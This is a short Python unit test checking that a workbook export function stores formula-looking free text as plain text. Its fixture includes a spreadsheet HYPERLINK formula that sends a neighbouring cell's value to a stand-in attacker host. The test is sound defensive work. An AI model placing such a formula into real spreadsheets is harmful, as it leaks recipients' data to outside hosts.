"""Free text a unit typed never becomes a formula in the workbook sent to the province."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from bot.exports.xlsx import neutralise_formulas


def test_formula_looking_text_is_saved_as_text() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws["A1"] = '=HYPERLINK("http://evil.example/?"&B1,"Xem")'
    ws["A2"] = "Mô hình «Dân vận khéo»"
    ws["A3"] = 42
    buffer = io.BytesIO()
    neutralise_formulas(wb).save(buffer)
    back = load_workbook(io.BytesIO(buffer.getvalue()))
    sheet = back.active
    assert sheet is not None
    assert sheet["A1"].data_type == "s"
    assert sheet["A1"].value == '=HYPERLINK("http://evil.example/?"&B1,"Xem")'
    assert sheet["A2"].value == "Mô hình «Dân vận khéo»" and sheet["A3"].value == 42
